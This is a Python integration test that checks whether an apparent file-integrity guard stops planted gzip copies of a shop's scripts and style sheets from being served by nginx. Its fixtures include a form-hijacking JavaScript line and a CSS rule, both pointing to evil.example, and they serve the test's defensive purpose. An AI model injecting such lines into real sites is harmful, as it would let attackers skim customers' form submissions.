#!/usr/bin/env python3
"""Packed copies, which web servers hand out in place of the file itself (nginx's gzip_static): behind a real nginx, who
takes gzip gets the approved script whatever an intruder puts beside it. What only packs approved content is let be."""
import gzip
import http.client
import os
import shutil
import time

from held import FILES, Held, end, ok, quiet, skip, steps, wait_for
from harness import free_port
from webserver import NGINX_HEAD, launch, temp_folders

NGINX = shutil.which("nginx", path="/usr/sbin:/usr/bin")
SETTINGS = NGINX_HEAD + """    types {{ application/javascript js; text/css css; }}
    server {{
        listen 127.0.0.1:{port};
        root {shop};
        gzip_static on;
    }}
}}
"""
SHOP, BOTH, CSS = "static/shop.js", "static/both.js", "static/shop.css"
EVIL = b"document.forms[0].action = 'https://evil.example/'; // EVIL\n"
TEXTS = {**FILES, BOTH: "var both = 1;\n", CSS: "body { color: #222 }\n"}
ROUNDS = 8


def text(rel):
    return TEXTS[rel].encode()


def get(port, rel):
    """What a browser that takes gzip makes of the answer; the status where there is none."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        c.request("GET", "/" + rel, headers={"Accept-Encoding": "gzip"})
        r = c.getresponse()
        body = r.read()
        if r.status != 200:
            return r.status
        return gzip.decompress(body) if r.getheader("Content-Encoding") == "gzip" else body
    except (OSError, EOFError) as e:
        return e
    finally:
        c.close()


def put(s, rel, content, beside=True):
    """As a plugin does it, in one go or under the file's own name."""
    name = s.path("uploads/new") if beside else s.path(rel)
    with open(name, "wb") as f:
        f.write(content)
    if beside:
        os.rename(name, s.path(rel))


def slowly(s, rel, content):
    with open(s.path(rel), "wb", buffering=0) as f:
        for at in range(0, len(content), 7):
            f.write(content[at:at + 7])
            time.sleep(0.02)


def findings(s, rel):
    return [f for f in s.log("--path", rel) if f["kind"] == "finding"]


def brief(facts):
    return "\n".join(steps({k: v for k, v in f.items() if k not in ("who", "root", "opener")}) for f in facts)


def told(s, rel):
    return wait_for(lambda: [f for f in s.log("--path", rel) if f["type"] == "file.changed"], 10)


def present(s, rel):
    return os.path.lexists(s.path(rel))


def planted(s, port, what, rel, content):
    """A packed copy of something else beside an approved file."""
    wrong, packed = [], rel + ".gz"
    found = len(findings(s, packed))
    for i in range(ROUNDS):
        s.intruder(put, packed, content, i % 2 == 0)
        wrong += [x for x in (get(port, rel), get(port, rel)) if x != text(rel)]
        if not wait_for(lambda: not present(s, packed), 10):
            wrong.append("it stays")
        if wrong:
            break
    ok(not wrong, "%s: who takes gzip gets the approved file, and it is taken away" % what, wrong[:3])
    ok(any(f["type"] == "file.planted" for f in findings(s, packed)[found:]), "and it is a finding", brief(s.log("--path", packed)[-3:]))


def altered(s, port):
    """The approved packed copy of an approved script is code like that itself."""
    good, wrong = gzip.compress(text(BOTH), mtime=0), []
    for i in range(ROUNDS):
        s.intruder(put, BOTH + ".gz", gzip.compress(EVIL + b"%d" % i), i % 2 == 0)
        wrong += [x for x in (get(port, BOTH), get(port, BOTH)) if x != text(BOTH)]
        if not wait_for(lambda: s.bytes(BOTH + ".gz") == good, 10):
            wrong.append("not put back")
        if wrong:
            break
    ok(not wrong, "an approved packed copy, altered: nobody gets it, and it is put back", wrong[:3])


def harmless(s, port):
    """A plugin of the shop packs what is approved: that harms nobody."""
    packed = SHOP + ".gz"
    s.intruder(put, packed, gzip.compress(text(SHOP)))
    ok(get(port, SHOP) == text(SHOP), "a new packed copy of approved content is handed out", get(port, SHOP))
    seen = told(s, packed)
    quiet(1)
    ok(present(s, packed) and not isinstance(s.customer(packed), OSError), "it is let be", s.customer(packed))
    ok(seen and seen[-1]["content"] == {"kind": "copy"}, "and known as a copy", brief(seen))
    bad = findings(s, packed)
    ok(not bad, "no finding speaks against it", brief(bad))


def release(s, number):
    for rel in (SHOP, BOTH):
        TEXTS[rel] = "var release = %d; // of %s\n" % (number, rel)
    r = s.run("deploy", "--", "sh", "-c", "; ".join("printf '%%s\\n' '%s' > %s" % (TEXTS[x].strip(), x) for x in (SHOP, BOTH)),
              cwd=s.dir)
    ok(r.code == 0, "a release brings other scripts", r)


def deployed(s, port):
    """A release that does not pack anew: what a plugin packed is out of date, and not handed out for the new file."""
    packed, before, found = SHOP + ".gz", text(BOTH), len(findings(s, SHOP + ".gz"))
    ok(present(s, packed), "a plugin's packed copy stands")
    release(s, 2)
    seen = [get(port, SHOP) for _ in range(5)]
    ok(all(x == text(SHOP) for x in seen), "customers get the new one", seen)
    ok(wait_for(lambda: get(port, SHOP) and not present(s, packed), 10), "the outdated packed copy is taken away",
       brief(s.log("--path", packed)[-3:]))
    s.intruder(put, packed, gzip.compress(text(SHOP)))
    quiet(1)
    ok(get(port, SHOP) == text(SHOP) and present(s, packed), "packed anew it is let be")
    ok(len(findings(s, packed)) == found, "none of that is a finding", brief(findings(s, packed)[found:]))
    ok(get(port, BOTH) == before, "an approved packed copy is handed out as before", get(port, BOTH))
    new = gzip.compress(text(BOTH))
    s.intruder(put, BOTH + ".gz", new)
    quiet(3)
    ok(get(port, BOTH) == text(BOTH) and s.bytes(BOTH + ".gz") == new, "packed anew it is let be, too",
       brief(s.log("--path", BOTH + ".gz")[-3:]))


def in_hold(s, port):
    """Nothing is taken away: what is out of date stays, and is refused."""
    s.run("mode", "hold", "--reason", "a test")
    ok(get(port, SHOP) == text(SHOP) and not isinstance(s.customer(SHOP + ".gz"), OSError), "mode hold: a packed copy is let be")
    release(s, 3)
    seen = [get(port, SHOP) for _ in range(5)]
    ok(all(x == text(SHOP) for x in seen), "customers get the new one", seen)
    ok(isinstance(s.customer(SHOP + ".gz"), PermissionError) and present(s, SHOP + ".gz"), "the outdated copy stays, refused")
    s.run("mode", "heal", "--reason", "a test")


def watched(s):
    """In mode watch a plugin may write where it likes: it is judged when it is complete."""
    packed = CSS + ".gz"
    s.run("mode", "watch", "--reason", "a test")
    seen = len(s.log("--path", packed))
    s.intruder(slowly, packed, gzip.compress(text(CSS), 0))
    wait_for(lambda: len(s.log("--path", packed)) > seen, 10)
    quiet(1)
    got = s.log("--path", packed)[seen:]
    ok([(f["type"], f["content"]["kind"]) for f in got] == [("file.changed", "copy")],
       "mode watch: one that is written bit by bit is known as a copy", brief(got))
    os.unlink(s.path(packed))
    quiet(1)
    seen = len(s.log("--path", packed))
    s.intruder(slowly, packed, gzip.compress(EVIL))
    ok(wait_for(lambda: any(f["type"] == "file.planted" for f in s.log("--path", packed)[seen:]), 10),
       "one of something else is a finding", brief(s.log("--path", packed)[seen:]))


if not NGINX:
    skip("packed copies behind nginx", "nginx is not installed")
    end()


class Packed(Held):
    def bytes(self, rel):
        try:
            with open(self.path(rel), "rb") as f:
                return f.read()
        except OSError as e:
            return repr(e).encode()


def before(s):
    with open(s.path(BOTH + ".gz"), "wb") as f:
        f.write(gzip.compress(text(BOTH), mtime=0))


s = Packed(TEXTS, before=before).open()
port = free_port()
nginx = launch(s, "nginx", NGINX, SETTINGS.format(base=s.base, shop=s.dir, port=port, temp=temp_folders(s)))
try:
    ok(wait_for(lambda: get(port, SHOP) == text(SHOP), 20), "nginx hands out the shop's files", get(port, SHOP))
    harmless(s, port)
    altered(s, port)
    deployed(s, port)
    in_hold(s, port)
    planted(s, port, "a script", SHOP, gzip.compress(EVIL))
    planted(s, port, "a style sheet", CSS, gzip.compress(b"input { background: url(https://evil.example/) }"))
    planted(s, port, "a cut one", SHOP, gzip.compress(EVIL * 9)[:-9])
    planted(s, port, "nothing at all", SHOP, b"")
    planted(s, port, "an old release", SHOP, gzip.compress(FILES[SHOP].encode()))
    watched(s)
finally:
    nginx.terminate()
    nginx.wait(20)
s.stop()
s.done()
end()
